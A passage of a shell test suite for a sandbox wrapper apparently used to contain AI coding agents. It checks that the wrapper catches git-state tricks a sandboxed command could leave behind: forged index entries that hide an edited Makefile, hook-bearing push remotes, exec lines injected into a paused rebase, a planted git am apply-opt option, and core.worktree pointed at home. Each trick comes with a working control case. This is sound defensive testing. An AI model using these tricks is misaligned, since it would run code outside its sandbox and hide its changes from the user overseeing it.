	git add Makefile local.cfg && git commit -qm m && git update-index --skip-worktree local.cfg' sh "$N"
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'echo "all:; @touch x" >Makefile &&
	git update-index --assume-unchanged Makefile && git status --short && echo CLEAN'
expect_output "a tracked file the command marked assume-unchanged: said after the run, named" \
	"the command marked 1 file in the git index of $N as unchanged \\(assume-unchanged or skip-worktree\\): git status and git diff do not show what it changed there: Makefile;"
expect_no_output "... the user's own skip-worktree mark from before is not named" "local\\.cfg"
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'git status --short >/dev/null; echo RAN'
expect_no_output "... a run that marks nothing new says nothing of it" "as unchanged"
# ... and a replace ref: HEAD replaced by a commit of the staged tree,
# git status shows the staged Makefile as nothing at all.
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'git update-index --no-assume-unchanged Makefile &&
	git add Makefile && t=$(git write-tree) && c=$(git commit-tree -m m "$t") && git replace HEAD "$c" &&
	[ -z "$(git status --short --untracked-files=no)" ] && echo HIDDEN'
expect_output "a replace ref made inside (HEAD, hiding a staged change): said after the run" \
	"the command made replace refs in the git repository of $N \\(refs/replace/[0-9a-f]+\\)"
# ... in a sha256 repository too, where an entry's flags lie 12 bytes
# further (they were read from the object id: files named at random,
# the one marked not).
N=$HOME_DIR/work/hidden256
if as_user /bin/sh -c 'git init -q --object-format=sha256 "$1" && cd "$1" &&
	for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do echo $i >f$i; done &&
	git add . && git commit -qm m' sh "$N" >/dev/null 2>&1; then
	run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do
		echo z$i >>f$i; done && git add -A && git update-index --assume-unchanged f5 && echo MARKED'
	expect_output "sha256: a tracked file the command marked assume-unchanged is named, alone" \
		"the command marked 1 file in the git index of $N as unchanged \\(assume-unchanged or skip-worktree\\): git status and git diff do not show what it changed there: f5;"
else
	skip "sha256: this git makes no sha256 repository"
fi

# Review R, R10: the command rewrites the index entry of a file it
# changed to record HEAD's object id with the changed file's own stat
# data (written a second later, so not racily clean): git status and
# git diff trust the stat data and show nothing, and the user runs the
# edited Makefile.  Named after the run (the control shows the hiding);
# the agent's ordinary git work says nothing of it.
FORGE_PY='
import hashlib, os, struct, subprocess, sys, time
path = sys.argv[1].encode()
oid = bytes.fromhex(subprocess.check_output(["git", "rev-parse", "HEAD:" + sys.argv[1]]).decode().strip())
hl = len(oid)
b = bytearray(open(".git/index", "rb").read())
n = struct.unpack(">I", b[8:12])[0]
at = 12
for i in range(n):
    nl = struct.unpack(">H", b[at + 40 + hl:at + 42 + hl])[0] & 0xfff
    # (a split index names its replacements by position: the first)
    if bytes(b[at + 42 + hl:at + 42 + hl + nl]) == (path if sys.argv[2] != "split" else b""):
        b[at + 40:at + 40 + hl] = oid
        break
    at += (42 + hl + nl + 8) & ~7
body = bytes(b[:-hl])
time.sleep(1.2)
open(".git/index.new", "wb").write(body + (hashlib.sha1 if hl == 20 else hashlib.sha256)(body).digest())
os.rename(".git/index.new", ".git/index")
'
FORGE_SH='if [ "$4" = split ]; then git update-index --split-index || exit; fi &&
if [ "$4" = crlf ]; then printf "all:; @echo ok\r\n"; else printf "all:; @touch %s/%s\n" "$2" "$3"; fi >Makefile &&
git add Makefile && python3 -c "$1" Makefile "$4" && { [ "$4" != mtime0 ] || touch -d @0 .git/index; } &&
[ -z "$(git status --porcelain --untracked-files=no)" ] &&
git diff --quiet HEAD && echo FORGED'
if command -v python3 >/dev/null 2>&1 && command -v make >/dev/null 2>&1; then
	# (protsplit: the command makes the index a split one first, its
	# entry for the Makefile one that replaces the shared index's;
	# prot0: then sets the index's mtime to 0, which git takes as no
	# time, no entry racily clean; protcrlf: its Makefile differs from
	# HEAD's only in a CR before the LF, which git, core.autocrlf
	# false and no attribute, does not make LF.)
	for how in ctrl prot prot256 protsplit prot0 protcrlf; do
		N=$HOME_DIR/work/forged-$how
		fmt=sha1 kind=plain
		[ $how = prot256 ] && fmt=sha256
		[ $how = protsplit ] && kind=split
		[ $how = prot0 ] && kind=mtime0
		[ $how = protcrlf ] && kind=crlf
		if ! as_user /bin/sh -c 'git init -q --object-format=$2 "$1" && cd "$1" &&
			printf "all:; @echo ok\n" >Makefile && echo c >c && git add . && git commit -qm m' \
			sh "$N" $fmt >/dev/null 2>&1; then
			skip "a forged stat-clean index entry ($fmt): this git makes no such repository"
			continue
		fi
		if [ $how = ctrl ]; then
			run as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
				-q -- /bin/sh -c "$FORGE_SH" sh "$FORGE_PY" "$MARKS" forged-$how $kind
		else
			run llw -p opencode $BE -C "$N" -q -- /bin/sh -c "$FORGE_SH" sh "$FORGE_PY" "$MARKS" forged-$how $kind
		fi
		status=$(as_user git -C "$N" status --porcelain --untracked-files=no)
		as_user make -s -C "$N" >/dev/null 2>&1
		if [ $how = ctrl ]; then
			if printf '%s\n' "$out" | grep -q FORGED && [ -z "$status" ] && [ -e "$MARKS/forged-ctrl" ]; then
				ok "control: a forged stat-clean index entry hides the changed Makefile from git status; the user's make runs it"
			else
				not_ok "control: a forged stat-clean index entry should hide the changed Makefile"
				diag "status $rc: $out"; diag "git status: $status"
			fi
		elif printf '%s\n' "$out" | grep -q FORGED && [ "$rc" -eq 0 ] &&
			printf '%s\n' "$out" | grep -q "the git index of $N says 1 file the command wrote is unchanged by its stat data, but its content is not what the index records: .*: Makefile\( (some differ from it only in CR LF line ends[^)]*)\)\{0,1\}; run touch on it"; then
			ok "opencode ($fmt, $kind index): a forged stat-clean index entry is named after the run"
		else
			not_ok "opencode ($fmt, $kind index): a forged stat-clean index entry is named after the run"
			diag "status $rc: $out"
			diag "$(ls -la --full-time "$N" "$N/.git/index"; as_user git -C "$N" ls-files -s --debug)"
		fi
		# ... and touch has git read the file: the change shows.
		if [ $how = prot ]; then
			as_user touch "$N/Makefile"
			as_user git -C "$N" status --porcelain | grep -q '^ M Makefile' &&
				ok "... after touch, git status shows the hidden change" ||
				not_ok "... after touch, git status shows the hidden change"
		fi
		rm -f "$MARKS"/*
	done
	# ... and a link's entry checked out as a file (the user's
	# core.symlinks=false), whose stat data git trusts as a file's: the
	# command's rewrite of it (the same size), its entry forged.
	N=$HOME_DIR/work/forged-link
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && printf "all:; @echo ok\n" >real.mk && ln -s real.mk Makefile &&
		git add . && git commit -qm m && git config core.symlinks false && rm Makefile && git checkout -q Makefile' \
		sh "$N" >/dev/null 2>&1
	run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'printf evil.mk >Makefile && git add Makefile &&
		python3 -c "$1" Makefile plain && [ -z "$(git status --porcelain --untracked-files=no)" ] && echo FORGED' sh "$FORGE_PY"
	expect_output "opencode: a link's entry checked out as a file (core.symlinks=false), forged: git status shows nothing" "FORGED"
	expect_output "... and it is named after the run" \
		"the git index of $N says 1 file the command wrote is unchanged by its stat data, but its content is not what the index records: .*: Makefile; run touch on it"
	# ... and, under core.autocrlf, a file git's text detection calls
	# binary (a CR alone in it), which git stores as it is: a CR added
	# before its LF, the entry forged, is named (its CR LF made LF is
	# HEAD's, but git would not have made it so).
	N=$HOME_DIR/work/forged-crlfbin
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git config core.autocrlf input &&
		printf "all:; @echo ok\rX\n" >Makefile && git add . && git commit -qm m' sh "$N" >/dev/null 2>&1
	run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'printf "all:; @echo ok\rX\r\n" >Makefile && git add Makefile &&
		python3 -c "$1" Makefile plain && [ -z "$(git status --porcelain --untracked-files=no)" ] && echo FORGED' sh "$FORGE_PY"
	expect_output "opencode: core.autocrlf, a binary file's CR LF, forged: git status shows nothing" "FORGED"
	expect_output "... and it is named after the run" \
		"the git index of $N says 1 file the command wrote is unchanged by its stat data, but its content is not what the index records: .*: Makefile; run touch on it"
	# ... and the end's reading of attributes for CR LF files is
	# bounded: 2000 CR LF files, added as core.autocrlf=input stores
	# them (LF), 20 directories deep, each directory's .gitattributes
	# near 1 MiB of lines that match nothing (before the bound, the end
	# read and matched 42,000 of them: minutes; 200,000 files, hours).
	# Timed from the command's last word: making them takes longer.
	N=$HOME_DIR/work/forged-attrs
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo c >c && git add . && git commit -qm m' sh "$N" >/dev/null 2>&1
	run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'd=.; for i in $(seq 20); do d=$d/d$i; mkdir -p $d &&
		python3 -c "import sys; sys.stdout.write(\"nomatch x\\n\" * 90000)" >$d/.gitattributes || exit; done &&
		for i in $(seq 2000); do printf "a\r\nb\r\n" >$d/f$i; done && git -c core.autocrlf=input add -A 2>/dev/null &&
		sleep 1.1 && echo "MADE $(date +%s)"'
	# (the end's time: from the command's last word to llwrap's exit)
	made=$(printf '%s\n' "$out" | sed -n 's/^MADE \([0-9]*\)$/\1/p' | head -n 1)
	t=$(($(date +%s) - ${made:-0}))
	if [ "$rc" -eq 0 ] && [ "$t" -lt 30 ] && printf '%s\n' "$out" | grep -q "says 2000 files the command wrote"; then
		ok "2000 CR LF files under large .gitattributes 20 deep: named, the end done in ${t} s"
	else
		not_ok "2000 CR LF files under large .gitattributes 20 deep: named, the end done in under 30 s"
		diag "status $rc, ${t} s: $out"
	fi
	# The neighbour: the agent's ordinary git work (an edit added, a
	# status that refreshes the stat data, a stash and its pop, a
	# checkout of another branch and back, an edit left unstaged, a
	# file with CRLF line ends under core.autocrlf) names nothing, in a
	# plain index and a split one (core.splitIndex).
	for split in false true; do
		N=$HOME_DIR/work/forged-none-$split
		as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git config core.autocrlf input &&
			git config core.splitIndex $2 && printf "all:; @echo ok\n" >Makefile &&
			for i in 1 2 3; do echo $i >f$i; done &&
			git add . && git commit -qm m && git branch other && git checkout -q other &&
			echo other >f2 && git commit -qam o && git checkout -q -' sh "$N" $split >/dev/null 2>&1
		run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'echo more >>f1 && git add f1 &&
			touch f3 && git status --short >/dev/null && echo x >>Makefile && git stash -q && git stash pop -q &&
			git commit -qam w && git checkout -q other && git checkout -q - && printf "a\r\nb\r\n" >crlf.txt &&
			git add crlf.txt && sleep 1.1 && git status --short >/dev/null && echo y >>f2 && echo DONE'
		if [ "$rc" -eq 0 ] && printf '%s\n' "$out" | grep -q DONE; then
			ok "the agent's own add, status, stash, commit, checkout of another branch run (splitIndex $split)"
		else
			not_ok "the agent's own add, status, stash, commit, checkout of another branch run (splitIndex $split)"
			diag "status $rc: $out"
		fi
		expect_no_output "... and nothing is named as unchanged by its stat data" "unchanged by (its|their) stat data"
	done
fi

# Review L, L1: a branch's remote or pushremote naming no remote is an
# address to git, a path included: a new repository whose branch pushes
# to a bare repository the command left in its cache (outside the
# project, not walked) ran its pre-receive hook at the user's plain git
# push.  The config is moved aside; the control shows the push running it.
PUSHREMOTE_SH='C=$3; rm -rf "$C"; git init -q --bare "$C" &&
printf "#!/bin/sh\ntouch %s/%s\n" "$1" "$2" >"$C/hooks/pre-receive" && chmod +x "$C/hooks/pre-receive" &&
git init -q . && echo hi >README && git add README && git commit -qm init &&
b=$(git symbolic-ref --short HEAD) && git config "branch.$b.pushremote" "$C" &&
git config "branch.$b.remote" "$C" && git config "branch.$b.merge" "refs/heads/$b" && echo MADE'
for how in ctrl prot; do
	N=$HOME_DIR/work/pushremote-$how
	as_user mkdir -p "$N"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$PUSHREMOTE_SH" sh "$MARKS" pushremote-$how \
			"$HOME_DIR/work/pushremote.git" >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -q -- /bin/sh -c "$PUSHREMOTE_SH" sh "$MARKS" pushremote-$how \
			"$HOME_DIR/.cache/llwrap/opencode/pushremote.git"
	fi
	as_user /bin/sh -c 'cd "$1" && git push -q' sh "$N" >/dev/null 2>&1
	if [ $how = ctrl ]; then
		[ -e "$MARKS/pushremote-ctrl" ] &&
			ok "control: a new repository's branch pushing to a local path runs its hook on the user's push" ||
			not_ok "control: a new repository's branch pushing to a local path should run its hook on the user's push"
	elif [ ! -e "$MARKS/pushremote-prot" ] && ! grep -qs pushremote "$N/.git/config" &&
		printf '%s\n' "$out" | grep -q "$N/\\.git/config, which git (it sets branch\\.[a-z]*\\.pushremote to '[^']*pushremote\\.git', neither a remote it names nor a network address) reads later.*moved aside"; then
		ok "opencode: a new repository's branch pushing to a local path: its config is moved aside, and named"
	else
		not_ok "opencode: a new repository's branch pushing to a local path: its config is moved aside"
		diag "status $rc: $out"
	fi
	rm -f "$MARKS"/*
done
N=$HOME_DIR/work/newremote-https
as_user mkdir -p "$N"
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c \
	'git init -q . && git remote add origin https://example.invalid/x.git &&
	echo a >a && git add a && git commit -qm a &&
	git config branch.main.remote origin && echo MADE'
expect_output "a new repository with an https remote: made inside" "^MADE$"
expect_no_output "... its config is kept" "moved aside"
[ "$(as_user git -C "$N" config remote.origin.url)" = https://example.invalid/x.git ] &&
	ok "... and the user's git sees its remote" ||
	not_ok "... and the user's git sees its remote"
# Review A, F8: git's legacy remote files.  Where the config names no
# remote, git reads .git/remotes/NAME (then branches/NAME): the command
# names a bare repository it made where it can write outside the project
# (its cache), with a post-receive hook, and the user's push ran it.  A
# remotes/ made in the project's repository is moved aside as made; git
# init's branches/ is read-only.  The control shows the push running it.
LEGACY_SH='git init -q --bare "$3" &&
printf "#!/bin/sh\ntouch %s/%s\n" "$1" "$2" >"$3/hooks/post-receive" && chmod +x "$3/hooks/post-receive" &&
mkdir -p .git/remotes; printf "URL: %s\nPush: refs/heads/*:refs/heads/*\n" "$3" >.git/remotes/origin
printf "%s\n" "$3" >.git/branches/pub || echo BRANCHES-REFUSED; echo LEFT'
for how in ctrl prot; do
	N=$HOME_DIR/work/legacy-$how
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git commit -q --allow-empty -m one &&
		test -d .git/branches' sh "$N" || skip "git init made no branches/"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$LEGACY_SH" sh "$MARKS" legacy-$how "$HOME_DIR/work/legacy-bare.git" >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -- /bin/sh -c "$LEGACY_SH" sh "$MARKS" legacy-$how \
			"$HOME_DIR/.cache/llwrap/opencode/legacy-bare.git"
	fi
	as_user /bin/sh -c 'cd "$1" && git push -q origin HEAD; git push -q pub HEAD' sh "$N" >/dev/null 2>&1
	if [ $how = ctrl ]; then
		[ -e "$MARKS/legacy-ctrl" ] &&
			ok "control: a .git/remotes/origin made inside runs its repository's hook on the user's push" ||
			not_ok "control: a .git/remotes/origin made inside should run its repository's hook on the user's push"
	elif [ ! -e "$MARKS/legacy-prot" ] && [ ! -e "$N/.git/remotes" ] && [ ! -e "$N/.git/branches/pub" ] &&
		printf '%s\n' "$out" | grep -q "^BRANCHES-REFUSED$" &&
		printf '%s\n' "$out" | grep -q "the command created $N/\\.git/remotes, which git reads later.*moved aside"; then
		ok "opencode: .git/remotes made inside is moved aside, said, and branches/ is read-only; the user's push runs nothing"
	else
		not_ok "opencode: .git/remotes made inside is moved aside and branches/ read-only"
		diag "status $rc: $out"; diag "$(ls "$MARKS" "$N/.git")"
	fi
	rm -f "$MARKS"/*
done
# ... and in a repository the command made (the project had none), whose
# legacy remote files are its own: one naming a local repository is
# moved aside, as its config would be; an https one is kept.
N=$HOME_DIR/work/legacy-new
as_user mkdir -p "$N"
run llw -p opencode $BE -C "$N" -- /bin/sh -c 'git init -q . && mkdir -p .git/remotes &&
	printf "URL: %s\n" "$HOME/.cache/llwrap/opencode/legacy-bare.git" >.git/remotes/origin &&
	printf "URL: https://example.invalid/x.git\n" >.git/remotes/up &&
	printf "/srv/x.git#main\n" >.git/branches/pub && echo MADE'
expect_output "a new repository's .git/remotes/origin naming a local repository: moved aside, said" \
	"the command created $N/\\.git/remotes/origin, which git push and fetch \\(a remote the config does not name is read from it: URL '[^']*legacy-bare\\.git', not a network address.*moved aside"
expect_output "... its branches/pub too" "the command created $N/\\.git/branches/pub, which git push and fetch .*URL '/srv/x\\.git'"
[ -e "$N/.git/remotes/up" ] &&
	ok "... the one naming an https address is kept" || not_ok "a new repository's https legacy remote was not kept"

# core.worktree (Low of the same review): in a repository the command
# made, one naming the home would make the user's next checkout write
# there: moved aside.  One naming a directory of the project, as git
# writes for each submodule's repository under .git/modules, is kept.
N=$HOME_DIR/work/newworktree
as_user mkdir -p "$N"
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c \
	'git init -q . && git config core.worktree "$HOME" && echo MADE'
if printf '%s\n' "$out" | grep -q "$N/\\.git/config, which git (it sets core\\.worktree to '$HOME_DIR', not a directory of the project) reads later.*moved aside" &&
	! grep -qs worktree "$N/.git/config"; then
	ok "a new repository's core.worktree naming the home is moved aside, and named"
else
	not_ok "a new repository's core.worktree naming the home is moved aside"
	diag "status $rc: $out"
fi
S=$HOME_DIR/work/newmodule
as_user /bin/sh -ec '
	git init -q "$1" && cd "$1" && git init -q --bare src.git
	git init -q s && git -C s commit -q --allow-empty -m s &&
	git -C s push -q ../src.git HEAD:refs/heads/main
	git -c url."$1/src.git".insteadOf=https://example.invalid/s.git \
		submodule add -q https://example.invalid/s.git lib/x
	git commit -qm sub && git submodule deinit -q -f lib/x
	rm -rf .git/modules/lib s && git submodule init -q' sh "$S"
run llw -p opencode $BE -C "$S" -q -- /bin/sh -c \
	'git -c url."$PWD/src.git".insteadOf=https://example.invalid/s.git submodule update -q &&
	git -C lib/x log --format=%s'
if [ "$rc" -eq 0 ] && grep -q "worktree = ../../../../lib/x" "$S/.git/modules/lib/x/config" &&
	! printf '%s\n' "$out" | grep -q "modules/lib/x/config"; then
	ok "a submodule's repository made inside (core.worktree into the project, an https url) keeps its config"
else
	not_ok "a submodule's repository made inside keeps its config"
	diag "status $rc: $out"
fi

# M1 of the third review (p9): an interactive rebase the command stops
# ("break") and leaves in progress, an exec line added to its todo list:
# the user's git rebase --continue ran it.  The list is moved aside (the
# user's git then stops, running nothing), and named.  A rebase done
# inside, or left with no exec line, moves nothing; one the user left
# before the run, with an exec line of the user's, is left.
REBASE_SH='GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i HEAD~1 >/dev/null 2>&1
{ printf "exec touch %s/%s\n  x touch %s/%s-x\n" "$1" "$2" "$1" "$2"; cat .git/rebase-merge/git-rebase-todo; } >todo.new &&
cp todo.new .git/rebase-merge/git-rebase-todo && rm todo.new && echo LEFT'
for how in ctrl prot; do
	N=$HOME_DIR/work/rebase-$how
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git commit -q --allow-empty -m one &&
		git commit -q --allow-empty -m two' sh "$N"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$REBASE_SH" sh "$MARKS" rebase-$how >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -- /bin/sh -c "$REBASE_SH" sh "$MARKS" rebase-$how
	fi
	as_user git -C "$N" rebase --continue >/dev/null 2>&1
	if [ $how = ctrl ]; then
		[ -e "$MARKS/rebase-ctrl" ] &&
			ok "control: an exec line added to a rebase left in progress runs on the user's git rebase --continue" ||
			not_ok "control: an exec line added to a rebase left in progress should run on the user's continue"
	elif [ ! -e "$MARKS/rebase-prot" ] && [ ! -e "$MARKS/rebase-prot-x" ] &&
		printf '%s\n' "$out" | grep -q "^LEFT$" &&
		printf '%s\n' "$out" | grep -q "the command left $N/\\.git/rebase-merge/git-rebase-todo, which git rebase --continue (it runs the list's exec lines: the rebase the command left in progress would have run a command; git rebase --abort ends it) reads later.*moved aside to $N/\\.git/rebase-merge/git-rebase-todo\\.llwrap-blocked-"; then
		ok "opencode: a rebase's todo list left with an exec line is moved aside, named; the user's continue runs nothing"
	else
		not_ok "opencode: a rebase's todo list left with an exec line is moved aside"
		diag "status $rc: $out"; diag "$(ls "$MARKS")"
	fi
	rm -f "$MARKS"/*
done
as_user /bin/sh -c 'cd "$1" && git rebase --abort && git log -1 --format=%s' sh "$N" >"$T/rebase.out" 2>&1
grep -qx two "$T/rebase.out" && ok "... the user's git rebase --abort ends it" ||
	{ not_ok "the user's git rebase --abort ends it"; diag "$(cat "$T/rebase.out")"; }
N=$HOME_DIR/work/rebase-neighbour
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git commit -q --allow-empty -m one &&
	git commit -q --allow-empty -m two' sh "$N"
run llw -p opencode $BE -C "$N" -- /bin/sh -c 'git rebase -q -x true HEAD~1 && GIT_SEQUENCE_EDITOR=true git rebase -q -i --exec true HEAD~1 &&
	GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i HEAD~1 >/dev/null 2>&1; test -d .git/rebase-merge && echo DONE'
expect_output "a rebase done inside (with exec lines), one left with none: they work" "^DONE$"
expect_no_output "... and move nothing aside" "moved aside"
as_user /bin/sh -c 'cd "$1" && git rebase --continue >/dev/null 2>&1 && git log --format=%s | head -1' sh "$N" >"$T/rebase.out" 2>&1
grep -qx two "$T/rebase.out" && ok "... the user continues the one left" ||
	{ not_ok "the user continues the rebase left with no exec line"; diag "$(cat "$T/rebase.out")"; }
as_user /bin/sh -c 'cd "$1" && GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i -x "touch $2/rebase-user" HEAD~1' \
	sh "$N" "$MARKS" >/dev/null 2>&1
run llw -p opencode $BE -C "$N" -- /bin/sh -c 'git status >/dev/null && git log -1 --format=%s'
expect_no_output "a rebase the user left with an exec line: left" "moved aside"
as_user git -C "$N" rebase --continue >/dev/null 2>&1
[ -e "$MARKS/rebase-user" ] && ok "... and the user's continue runs the user's exec line" ||
	not_ok "the user's own rebase with an exec line did not run it on continue"
rm -f "$MARKS"/*

# Review V: the same in a repository nested in the project (the user's
# own, there at the start): the todo list left with an exec line is
# moved aside; a rebase the user left there before the run, with an
# exec line of the user's, is left.
N=$HOME_DIR/work/rebase-nested
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git commit -q --allow-empty -m top &&
	git init -q sub && cd sub && git commit -q --allow-empty -m one &&
	git commit -q --allow-empty -m two' sh "$N"
run llw -p opencode $BE -C "$N" -- /bin/sh -c "cd sub && $REBASE_SH" sh "$MARKS" rebase-nested
as_user git -C "$N/sub" rebase --continue >/dev/null 2>&1
if [ ! -e "$MARKS/rebase-nested" ] && [ ! -e "$MARKS/rebase-nested-x" ] &&
	printf '%s\n' "$out" | grep -q "^LEFT$" &&
	printf '%s\n' "$out" | grep -q "the command left $N/sub/\\.git/rebase-merge/git-rebase-todo, which git rebase --continue .*moved aside"; then
	ok "opencode (nested): a rebase's todo list left with an exec line is moved aside, named; the user's continue runs nothing"
else
	not_ok "opencode (nested): a rebase's todo list left with an exec line is moved aside"
	diag "status $rc: $out"; diag "$(ls "$MARKS")"
fi
as_user git -C "$N/sub" rebase --abort >/dev/null 2>&1
as_user /bin/sh -c 'cd "$1/sub" && GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i -x "touch $2/rebase-nested-user" HEAD~1' \
	sh "$N" "$MARKS" >/dev/null 2>&1
run llw -p opencode $BE -C "$N" -- /bin/sh -c 'git -C sub status >/dev/null && echo SEEN'
expect_no_output "... one the user left there with an exec line: left" "moved aside"
as_user git -C "$N/sub" rebase --continue >/dev/null 2>&1
[ -e "$MARKS/rebase-nested-user" ] && ok "... and the user's continue runs the user's exec line" ||
	not_ok "the user's own nested rebase with an exec line did not run it on continue"
rm -f "$MARKS"/*

# Review Y: a submodule's repository, kept inside the project's
# (.git/modules/NAME, its checkout in the project): a rebase left there
# with an exec line added by the command ran at the user's git rebase
# --continue in the submodule.  (A linked worktree's, .git/worktrees/,
# is read-only inside: the second write must fail.)
N=$HOME_DIR/work/rebase-inner
make_repo "$N"
as_user /bin/sh -c 'git -C "$1/lib/sub" commit -q --allow-empty -m two &&
	git -C "$1-wt" commit -q --allow-empty -m two &&
	cd "$1-wt" && GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i HEAD~1' sh "$N" >/dev/null 2>&1
INNER_SH='cd lib/sub && GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i HEAD~1 >/dev/null 2>&1
for t in "$2/.git/modules/lib/sub/rebase-merge/git-rebase-todo" "$2/.git/worktrees/$3/rebase-merge/git-rebase-todo"; do
	n=$(printf %s "${t#$2/.git/}" | tr / _)
	{ printf "exec touch %s/inner-%s\n" "$1" "$n"; cat "$t"; } >"$t.new" && cp "$t.new" "$t" && rm "$t.new" && echo "LEFT $n"
done 2>/dev/null'
run llw -p opencode $BE -C "$N" -- /bin/sh -c "$INNER_SH" sh "$MARKS" "$N" "${N##*/}-wt"
as_user git -C "$N/lib/sub" rebase --continue >/dev/null 2>&1
as_user git -C "$N-wt" rebase --continue >/dev/null 2>&1
if [ -z "$(ls "$MARKS")" ] && printf '%s\n' "$out" | grep -q "^LEFT modules_" &&
	! printf '%s\n' "$out" | grep -q "^LEFT worktrees_" &&
	printf '%s\n' "$out" | grep -q "the command left $N/\\.git/modules/lib/sub/rebase-merge/git-rebase-todo, which git rebase --continue .*moved aside"; then
	ok "opencode: a rebase's todo list in a submodule's repository, left with an exec line, is moved aside, named; the user's continue runs nothing (a linked worktree's cannot be written)"
else
	not_ok "opencode: a rebase's todo list in a submodule's repository is moved aside"
	diag "status $rc: $out"; diag "$(ls "$MARKS")"
fi
as_user git -C "$N/lib/sub" rebase --abort >/dev/null 2>&1
as_user /bin/sh -c 'cd "$1/lib/sub" && GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i -x "touch $2/inner-user" HEAD~1' \
	sh "$N" "$MARKS" >/dev/null 2>&1
run llw -p opencode $BE -C "$N" -- /bin/sh -c 'git -C lib/sub status >/dev/null && echo SEEN'
expect_no_output "... one the user left in the submodule with an exec line: left" "moved aside"
as_user git -C "$N/lib/sub" rebase --continue >/dev/null 2>&1
[ -e "$MARKS/inner-user" ] && ok "... and the user's continue runs the user's exec line" ||
	not_ok "the user's own submodule rebase with an exec line did not run it on continue"
rm -f "$MARKS"/*

# Review V: git am left in progress (a patch that does not apply), its
# rebase-apply/apply-opt given an option of git apply's that git am never
# writes: --build-fake-ancestor=FILE had the user's git am --skip (or
# --continue, or git rebase --continue) write an index at FILE, anywhere
# the user can write.  apply-opt is moved aside (git am then applies with
# no options), named; git am's own options, left.
AM_SH='git format-patch -q -2 -o .git/am-p HEAD && git reset -q --hard HEAD~2 &&
printf "a\nZ\nc\n" >f && git commit -qam local &&
{ git am -q $3 .git/am-p/*.patch >/dev/null 2>&1; test -d .git/rebase-apply; } &&
{ [ -n "$3" ] || printf "\047--build-fake-ancestor=%s/%s\047" "$1" "$2" >.git/rebase-apply/apply-opt; } && echo LEFT'
for how in ctrl prot own; do
	N=$HOME_DIR/work/am-$how
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && printf "a\nb\nc\n" >f && printf "x\n" >g &&
		git add f g && git commit -qm base && printf "a\nB\nc\n" >f && git commit -qam p1 &&
		printf "y\n" >g && git commit -qam p2' sh "$N"
	opts=
	[ $how = own ] && opts="--whitespace=fix -C1 -p1"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$AM_SH" sh "$MARKS" am-$how >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -- /bin/sh -c "$AM_SH" sh "$MARKS" am-$how "$opts"
	fi
	as_user git -C "$N" am --skip >/dev/null 2>&1
	as_user git -C "$N" log -1 --format=%s >"$T/am.out" 2>&1
	case $how in
	ctrl)
		[ -e "$MARKS/am-ctrl" ] &&
			ok "control: git am left with --build-fake-ancestor= in its apply-opt writes that file at the user's git am --skip" ||
			not_ok "control: git am's apply-opt should have the user's git am --skip write the file it names"
		;;
	prot)
		if [ ! -e "$MARKS/am-prot" ] && printf '%s\n' "$out" | grep -q "^LEFT$" &&
			printf '%s\n' "$out" | grep -q "the command left $N/\\.git/rebase-apply/apply-opt, which git am --continue or --skip .*moved aside to $N/\\.git/rebase-apply/apply-opt\\.llwrap-blocked-" &&
			grep -qx p2 "$T/am.out"; then
			ok "opencode: git am's apply-opt left with an option git am never writes is moved aside, named; the user's git am --skip writes nothing outside, applies the rest"
		else
			not_ok "opencode: git am's apply-opt left with --build-fake-ancestor= is moved aside"
			diag "status $rc: $out"; diag "$(ls "$MARKS")"; diag "$(cat "$T/am.out")"
		fi
		;;
	own)
		expect_output "git am left in progress with its own options inside" "^LEFT$"
		expect_no_output "... its apply-opt is left" "moved aside"
		grep -qx p2 "$T/am.out" && ok "... and the user's git am --skip applies the rest" ||
			{ not_ok "the user's git am --skip applies the rest"; diag "$(cat "$T/am.out")"; }
		;;
	esac
	rm -f "$MARKS"/*
done

# Review A, F7: the merge strategy a rebase's state names runs as the
# program git-merge-STRATEGY, from the work tree's top when it holds a
# "/" (a file of the project); the options of git's resolve strategy
# become arguments of git read-tree (--index-output= writes a file).  A
# rebase the command stops and leaves with either: the todo list is
# moved aside and why is said; the user's continue runs nothing.  The
# controls show the user's continue running both without the check.
STRAT_SH='G="git -c user.email=a@x -c user.name=a"
